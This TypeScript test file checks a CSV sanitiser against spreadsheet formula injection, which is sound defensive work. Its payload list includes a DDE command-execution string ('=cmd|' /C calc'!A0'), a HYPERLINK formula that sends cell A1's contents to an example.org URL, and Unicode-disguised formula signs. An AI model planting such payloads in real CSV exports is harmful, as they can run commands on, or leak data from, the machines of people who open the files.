import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvSafe } from "./csv-cell";

/** How a spreadsheet decides: blanks and invisible characters aside, a sign of any width begins a formula. */
function runsAsFormula(cell: string): boolean {
  if (/^[\t\r\n]/.test(cell)) return true;
  const visible = cell.replace(/^[\s\p{Cc}\u00a0\u00ad\u200b-\u200f\u2060\ufeff]+/u, "");
  return /^[=+\-@\u2212\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u207a\u207b\u207c\u208a\u208b\u208c]/.test(
    visible,
  );
}

function throughFile(cell: string): string {
  const file = stringify([[cell, "next"]], { quoted: true, bom: true });
  const records: string[][] = parse(file, { bom: true });
  expect(records).toHaveLength(1);
  expect(records[0]).toHaveLength(2);
  return records[0]?.[0] ?? "";
}

const payloads = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  " =1",
  "\n=1",
  "\t=1",
  "\r=1",
  "\r\n=1",
  "\u0000=1",
  "\u00a0=1",
  "\ufeff=1",
  "\u200b=1",
  "\u2060\u00ad=1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20SUM(A1)",
  "\ufe66cmd",
  "\u207c1",
  "\u22121",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org/?x="&A1,"open")',
  '","=1+1","',
  "\u2028=1",
];

describe("a text cell", () => {
  test.each(payloads)("disarms %j", (payload) => {
    expect(runsAsFormula(throughFile(csvSafe(payload)))).toBe(false);
  });

  test("disarms whatever stands before, between and after the signs", () => {
    const unit = fc.constantFrom(..."=+-@\t\r\n \"',;a1\u00a0\u200b\ufeff\uff1d\u2212|!");
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 12 }), (text) => {
        expect(runsAsFormula(throughFile(csvSafe(text)))).toBe(false);
      }),
    );
  });

  test.each([
    "enc.search_person",
    "2026-Q1",
    "[c]",
    "London's 12 BCUs; all",
    'a "quoted" word',
    "a=b",
    "12",
    "",
  ])("leaves %j as it is", (text) => {
    expect(throughFile(csvSafe(text))).toBe(text);
  });

  test("keeps the words of a text that spans lines on one line", () => {
    expect(csvSafe("  first\r\n=second\u0007 ")).toBe("first =second");
  });

  test("is the same when made safe again", () => {
    for (const payload of payloads) expect(csvSafe(csvSafe(payload))).toBe(csvSafe(payload));
  });
});
